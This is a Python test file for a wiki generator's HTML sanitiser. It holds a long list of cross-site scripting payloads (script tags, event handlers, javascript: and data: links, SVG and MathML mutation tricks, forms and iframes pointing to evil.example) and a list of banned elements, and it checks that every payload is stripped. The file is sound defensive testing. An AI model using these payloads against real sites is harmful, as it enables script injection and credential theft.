"""`wikigen.publish.sanitise`: what HTML may pass, by the trust its author has."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from tests.publish.conftest import compose
from tests.strategies import markdown
from wikigen.publish.body import raw_body
from wikigen.publish.engine import GfmEngine, MarkdownEngine
from wikigen.publish.rewrite import MISSING_SCHEME, Rewritten
from wikigen.publish.sanitise import sanitise_page, sanitise_raw

BANNED = {
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "button",
    "select",
    "textarea",
    "option",
    "base",
    "meta",
    "link",
    "title",
    "template",
    "noscript",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "marquee",
    "portal",
    "dialog",
    "slot",
    "foreignobject",
    "animate",
    "set",
    "use",
    "annotation-xml",
    "mtext",
    "mglyph",
    "isindex",
    "keygen",
    "bgsound",
    "layer",
    "param",
}
"""Elements that run, load, or change how the rest is read."""
MATERIAL = {"__config", "__search", "__drawer", "__toc", "__consent", "__palette_0"}
"""Ids that Material's scripts look for."""
SCHEMES = {"", "http", "https", "mailto", "tel", MISSING_SCHEME}

ATTACKS = (
    # scripts and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1) onerror=alert(1)>",
    '<img src="x`" `onerror=alert(1)>',
    "<img/src/onerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    '<a href="https://a.example" onmouseover=alert(1)>x</a>',
    '<div onpointerrawupdate="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<marquee onstart="alert(1)">x</marquee>',
    # schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://a.example/1">x</a>',
    '<img src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    # namespaces, frames, resources
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml,x"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=https://evil.example>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    # style and layout
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<td style='position:fixed;inset:0'>x</td>",
    "<table background=https://evil.example/x.png><tr><td>x</td></tr></table>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    # Material's own
    '<div id=__config>{"base": "https://evil.example"}</div>',
    "<h2 id=__search>x</h2>",
    "<p id='__drawer' class='md-overlay'>x</p>",
    "<script id=__config type=application/json>{}</script>",
    "<label for=__search>x</label>",
    "<div data-md-component=search>x</div>",
    "<div class='md-dialog md-dialog--active'>x</div>",
    # comments and broken markup
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<a href='x' title='\"><script>alert(1)</script>'>x</a>",
    '"><img src=x onerror=alert(1)>',
    "</article></main><script>alert(1)</script>",
    "<img src=x:x onerror\x0c=alert(1)>",
    "> [!note] <img src=x onerror=alert(1)>\n> x",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    # images elsewhere
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 1x' src=a.png>",
    "<picture><source srcset=https://evil.example/pixel.png><img src=a.png></picture>",
    "<video poster=https://evil.example/x.png></video>",
    "<input type=image src=https://evil.example/x.png>",
)
"""Strings that do harm where they come through; many are from OWASP's and DOMPurify's lists."""

GFM, EXTENDED = GfmEngine(), MarkdownEngine(["toc", "tables", "fenced_code", "footnotes", "attr_list", "md_in_html", "admonition"], {})
TOKEN = "wgs" + "0" * 18


def trusted(text: str) -> str:
    """What a page that the configuration trusts publishes of a text: the attack itself."""
    return compose(text, _unwritten(text), GFM, trusted=True).html


def untrusted(text: str, *, extended: bool = False) -> str:
    """What any other page publishes of it."""
    return compose(text, _unwritten(text), EXTENDED if extended else GFM, trusted=False).html


def _unwritten(text: str) -> Rewritten:
    return Rewritten(markdown=text, token=TOKEN, slots=(), title_anchor="")


LEVELS = {"T2": untrusted, "T2 extended": lambda text: untrusted(text, extended=True), "T3": raw_body}
"""Every way to untrusted HTML."""


class _Tokens(HTMLParser):
    """Start tags as a parser reads them that is not lxml's."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {"text": data}))

    def handle_pi(self, data: str) -> None:
        self.found.append(("!--", {"text": data}))

    def unknown_decl(self, data: str) -> None:
        self.found.append(("!--", {"text": data}))


def _elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every element of a piece of HTML with its attributes, as two parsers see them."""
    document = lxml_html.document_fromstring(f"<html><body><div>{html}</div></body></html>")
    for element in document.iter():
        attributes = {str(name): str(value) for name, value in element.attrib.items()} if isinstance(element.tag, str) else {}
        yield str(element.tag) if isinstance(element.tag, str) else "!--", attributes
    tokens = _Tokens()
    tokens.feed(html)
    tokens.close()
    yield from tokens.found


def harms(html: str, *, images: bool = False) -> list[str]:
    """Everything in published HTML that could run, load, or take the place of Material's own."""
    return [f"{tag}: {trouble}" for tag, attributes in _elements(html) for trouble in _troubles(tag, attributes, images=images)]


def _troubles(tag: str, attributes: dict[str, str], *, images: bool) -> Iterator[str]:
    if tag.lower().rpartition(":")[2] in BANNED | {"!--"}:
        yield "must not be here"
    if tag == "input" and attributes.get("type") not in {"checkbox", "radio"}:
        yield "takes text"
    for name, value in attributes.items():
        url = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(33)))).replace("\\", "/")  # as browsers read it
        scheme = match[1].lower() if (match := re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)) else ""
        if (
            name.startswith(("on", "data-md"))
            or name in {"srcdoc", "srcset", "formaction", "action", "background", "ping", "http-equiv", "is", "slot"}
            or (name in {"href", "src", "poster", "data", "cite", "xlink:href"} and scheme not in SCHEMES)
            or (name in {"src", "poster", "data"} and (images or url.startswith("//") or scheme not in {"", MISSING_SCHEME}))
            or (name == "style" and not re.fullmatch(r"\s*text-align\s*:\s*(?:left|right|center|justify)\s*;?\s*", value))
            or (name in {"id", "for", "name"} and (value in MATERIAL or re.match(r"__(?!tabbed_\d|\d+$)", value)))
            or (name == "class" and re.search(r"(?:^|\s)md-(?!button|tag)", value))
        ):
            yield f"{name}={value}"


HARMLESS = {
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "`<script>alert(1)</script>`",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    '<img src="x`" `onerror=alert(1)>',
    "<script/x>alert(1)</script>",
    "<img/src/onerror=alert(1)>",
    "[x](<java\tscript:alert(1)>)",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<a href='x' title='\"><script>alert(1)</script>'>x</a>",
}
"""Strings that are text to the engine, or quoted well; no other engine may make more of them."""


def test_the_table_is_long_enough() -> None:
    """There are at least sixty attacks, each one once."""
    assert len(ATTACKS) == len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_real(attack: str) -> None:
    """Without the sanitiser each attack is in the page, so that its absence means something."""
    assert bool(harms(trusted(attack))) is (attack not in HARMLESS)


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_do_nothing(attack: str, level: str) -> None:
    """At no level does an attack leave anything that runs, loads from elsewhere, or takes the place of Material's own."""
    made = LEVELS[level](attack)
    assert harms(made, images=level == "T3") == []
    assert harms(LEVELS[level](f"A paragraph with {attack} within.\n\n- {attack}\n"), images=level == "T3") == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitising_twice_changes_nothing(attack: str) -> None:
    """What was sanitised is the same after sanitising again: no second reading makes more of it."""
    once = sanitise_page(attack), sanitise_page(attack, extended=True), sanitise_raw(attack)
    assert (sanitise_page(once[0]), sanitise_page(once[1], extended=True), sanitise_raw(once[2])) == once


@given(st.lists(st.sampled_from(ATTACKS) | markdown, max_size=4).map("\n\n".join), st.sampled_from(sorted(LEVELS)))
def test_no_mixture_does_harm(text: str, level: str) -> None:
    """Law: whatever attacks and broken Markdown stand together, nothing harmful comes through."""
    if level != "T2 extended" or len(text) < 400:  # Python-Markdown is slow on what is broken
        assert harms(LEVELS[level](text), images=level == "T3") == []


# ---- what must survive


@pytest.mark.parametrize(
    ("html", "page", "raw"),
    [
        pytest.param("<p>a <em>b</em> <strong>c</strong> <code>d</code> <del>e</del> <mark>f</mark></p>", None, None, id="marks"),
        pytest.param("<ul><li>a<ol><li>b</li></ol></li></ul>", None, None, id="lists"),
        pytest.param('<ol start="3"><li>a</li></ol>', None, None, id="a list that begins at three"),
        pytest.param(
            '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>', None, None, id="tables"
        ),
        pytest.param(
            '<table><tbody><tr><td style="text-align:center">b</td></tr></tbody></table>',
            None,
            "<table><tbody><tr><td>b</td></tr></tbody></table>",
            id="columns' alignment",
        ),
        pytest.param("<blockquote><p>a</p></blockquote>", None, None, id="quotes"),
        pytest.param("<pre>a\n b</pre>", None, None, id="preformatted"),
        pytest.param(
            "H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd> <abbr>A</abbr> <q>q</q> <cite>c</cite><br>", None, None, id="small things"
        ),
        pytest.param("<dl><dt>a</dt><dd>b</dd></dl>", None, None, id="definitions"),
        pytest.param('<details open=""><summary>a</summary>b</details>', None, "ab", id="details"),
        pytest.param(
            '<a href="https://a.example/?a=1&amp;b=2#c">x</a>',
            None,
            '<a href="https://a.example/?a=1&amp;b=2#c" rel="noopener noreferrer nofollow">x</a>',
            id="outside link",
        ),
        pytest.param(
            '<a href="mailto:a@a.example">x</a>', None, '<a href="mailto:a@a.example" rel="noopener noreferrer nofollow">x</a>', id="mail"
        ),
        pytest.param('<a href="tel:+1">x</a>', None, '<a rel="noopener noreferrer nofollow">x</a>', id="telephone"),
        pytest.param('<a href="../b/#c">x</a>', None, '<a rel="noopener noreferrer nofollow">x</a>', id="inside link"),
        pytest.param('<a href="#c" title="t">x</a>', None, '<a title="t" rel="noopener noreferrer nofollow">x</a>', id="anchor"),
        pytest.param('<img src="../assets/f.svg" alt="a" width="300">', None, "[image: a]", id="image of the site's own"),
        pytest.param('<img src="a:b.png" alt="a">', '<img alt="a">', "[image: a]", id="image with a scheme"),
        pytest.param(
            '<img src="https://a.example/p.png" alt="a">', f'<img src="{MISSING_SCHEME}:" alt="a">', "[image: a]", id="image elsewhere"
        ),
        pytest.param('<div align="center"><p align="right">x</p></div>', None, "<div><p>x</p></div>", id="alignment"),
        pytest.param('<p dir="rtl" lang="he" title="t">x</p>', None, '<p lang="he" title="t">x</p>', id="language"),
        pytest.param('<h2 id="own">x</h2>', None, "<h2>x</h2>", id="a heading's id"),
        pytest.param('<p id="own" class="mine" data-x="1">x</p>', "<p>x</p>", "<p>x</p>", id="other ids, classes and data"),
        pytest.param('<time datetime="2026-04-24">x</time><ruby>漢<rt>kan</rt></ruby>', None, "x漢kan", id="dates and ruby"),
        pytest.param('<span class="wg-missing" title="t">x</span>', None, '<span title="t">x</span>', id="our mark of a missing link"),
        pytest.param("a &lt;b&gt; &amp; \"c\" 'd' é 漢字 🎉", None, None, id="text"),
        pytest.param("<custom-tag>x</custom-tag>", "x", "x", id="an unknown tag's text"),
    ],
)
def test_what_survives(html: str, page: str | None, raw: str | None) -> None:
    """Prose, tables and what GitHub allows come through a page's sanitiser as they are; raw text keeps prose and tables."""
    assert sanitise_page(html) == (html if page is None else page)
    assert sanitise_raw(html) == (html if raw is None else raw)


@pytest.mark.parametrize(
    "html",
    [
        '<div class="admonition note"><p class="admonition-title">Note</p><p>x</p></div>',
        '<div class="tabbed-set" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio"></div>',
        '<label for="__tabbed_1_1">A</label>',
        '<a class="md-button md-button--primary" href="https://a.example">x</a>',
        '<div class="grid cards"><ul><li>x</li></ul></div>',
        '<section id="own" role="note" aria-label="x">x</section>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        '<h2 id="__1">x</h2>',
    ],
)
def test_what_extensions_make_survives(html: str) -> None:
    """Under `engine: markdown` tabs, admonitions, buttons, grids and footnotes come through whole."""
    made = sanitise_page(html, extended=True)
    assert list(_elements(made)) == list(_elements(html))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("a\u202eb\u2066c\u2069d", "abcd", id="reordering"),
        pytest.param("a\u200bb\u2060c\ufeffd", "abcd", id="blanks without width"),
        pytest.param("a\U000e0041\U000e007fb", "ab", id="tag characters"),
        pytest.param("a\x00\x01\x08\x0b\x1fb\x7fc", "a�bc", id="control characters"),
        pytest.param("a\tb\nc", "a\tb\nc", id="tabs and lines stay"),
        pytest.param("a\u200e\u200f\u061cb", "ab", id="marks of direction"),
        pytest.param("می\u200cخواهم 👩\u200d💻", "می\u200cخواهم 👩\u200d💻", id="joiners that scripts and emoji need stay"),
    ],
)
def test_hidden_characters(text: str, expected: str) -> None:
    """Characters that reorder or hide text are gone at every level."""
    assert {sanitise_page(text), sanitise_page(text, extended=True), sanitise_raw(text)} <= {expected, expected.replace("�", "")}


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<img src="https://a.example/x.png" alt="a &amp; &lt;b&gt;">', "[image: a &amp; &lt;b&gt;]"),
        ("<IMG ALT='two\nwords' SRC=//a.example/x>", "[image: two words]"),
        ("<img src=x onerror=alert(1)>", "[image]"),
        ('<img alt="<script>alert(1)</script>" src=x>', ""),
        ('<a href="//a.example">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
        ('<a href="https:\\\\a.example">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
    ],
)
def test_raw_text_loads_nothing_and_leads_to_hosts_by_name(html: str, expected: str) -> None:
    """An image of raw text is its words, and a target that a browser may read as another host's is none."""
    assert sanitise_raw(html) == expected


@pytest.mark.parametrize("kind", ["id", "for", "name"])
@pytest.mark.parametrize("value", ["__search", "__palette_0", "wg-new", "WG-topics"])
def test_ids_of_the_site_are_its_own(kind: str, value: str) -> None:
    """Nothing of an author's is found where a script looks for the site's own, nor by the class it goes by."""
    tag = {"id": "div", "for": "label", "name": "input"}[kind]
    made = sanitise_page(f'<{tag} type="checkbox" {kind}="{value}" class="mermaid wg-card ok">x', extended=True)
    assert f'{kind}="h{value}"' in made
    assert "mermaid" not in made
    assert "wg-card" not in made
